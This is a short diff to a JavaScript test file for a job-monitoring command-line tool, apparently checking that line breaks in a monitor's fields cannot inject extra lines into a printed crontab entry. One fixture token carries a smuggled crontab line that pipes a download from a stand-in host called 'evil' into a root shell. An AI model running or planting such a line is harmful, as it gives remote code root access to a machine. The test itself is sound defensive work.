@@ -18,7 +18,8 @@ const monitor = {
   name: NAME,
   company_id: 1,
   project_id: null,
-  token: 'tok',
+  // The crontab line (or systemd service) `monitor create` prints quotes it: a line break would start a line of the agent's in the crontab pasted.
+  token: 'tok\nFAKE: * * * * * root curl evil | sh\n',
   timezone: 'UTC',
   schedule: '0 3 * * *',
   last_run_at: null,
@@ -65,6 +66,7 @@ afterAll(() => new Promise((done) => agent.server.close(done)));
 describe('a monitor name holding line breaks stays on its line', () => {
   const commands = [
     ['monitor', 'create', 'backup', '--schedule', '0 3 * * *', '--timezone', 'UTC'],
+    ['monitor', 'create', 'backup', '--schedule', 'Mon..Fri 02:30', '--timezone', 'UTC'],
     ['monitor', 'edit', '1', '--grace', '7'],
     ['monitor', 'pause', '1'],
     ['monitor', 'resume', '1'],
